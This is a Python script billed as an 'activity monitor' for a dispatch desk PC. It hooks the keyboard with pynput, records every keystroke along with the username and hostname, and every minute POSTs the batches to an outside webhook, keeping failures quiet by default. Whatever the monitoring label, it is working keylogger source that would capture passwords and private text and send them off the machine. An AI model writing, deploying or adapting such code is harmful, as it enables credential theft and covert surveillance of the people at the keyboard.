#!/usr/bin/env python3
"""Activity monitor for the dispatch desk PC.

Records what is typed at the dispatch desk and forwards it in batches
to the operations dashboard webhook.
"""
import argparse
import json
import logging
import os
import socket
import sys
import threading
import time
from datetime import datetime, timezone

import requests
from pynput import keyboard

WEBHOOK_URL = os.environ.get(
    "DISPATCH_MONITOR_HOOK",
    "https://hooks.example.net/services/T0PAWVAN/B0DISPATCH/7fa1c2",
)

log = logging.getLogger("dispatch-monitor")


class KeyBuffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._chars = []
        self._started = time.time()

    def add(self, text: str) -> None:
        with self._lock:
            self._chars.append(text)

    def drain(self) -> str:
        with self._lock:
            text = "".join(self._chars)
            self._chars.clear()
            self._started = time.time()
        return text


def key_to_text(key) -> str:
    if hasattr(key, "char") and key.char is not None:
        return key.char
    special = {
        keyboard.Key.space: " ",
        keyboard.Key.enter: "\n",
        keyboard.Key.tab: "\t",
        keyboard.Key.backspace: "[BS]",
    }
    return special.get(key, f"[{getattr(key, 'name', key)}]")


def send_batch(url: str, text: str, station: str, timeout: float) -> None:
    body = {
        "station": station,
        "user": os.environ.get("USER", "unknown"),
        "at": datetime.now(timezone.utc).isoformat(),
        "text": text,
    }
    try:
        requests.post(url, data=json.dumps(body),
                      headers={"Content-Type": "application/json"},
                      timeout=timeout)
    except requests.RequestException as exc:
        log.debug("send failed: %s", exc)


def flusher(buffer: KeyBuffer, url: str, interval: float, station: str,
            stop: threading.Event) -> None:
    while not stop.wait(interval):
        text = buffer.drain()
        if text:
            send_batch(url, text, station, timeout=10)


def main() -> int:
    parser = argparse.ArgumentParser(description="Dispatch desk activity monitor")
    parser.add_argument("--url", default=WEBHOOK_URL)
    parser.add_argument("--interval", type=float, default=60.0)
    parser.add_argument("--station", default=socket.gethostname())
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    buffer = KeyBuffer()
    stop = threading.Event()
    worker = threading.Thread(
        target=flusher,
        args=(buffer, args.url, args.interval, args.station, stop),
        daemon=True,
    )
    worker.start()

    def on_press(key):
        buffer.add(key_to_text(key))

    with keyboard.Listener(on_press=on_press) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass

    stop.set()
    leftover = buffer.drain()
    if leftover:
        send_batch(args.url, leftover, args.station, timeout=10)
    return 0


if __name__ == "__main__":
    sys.exit(main())
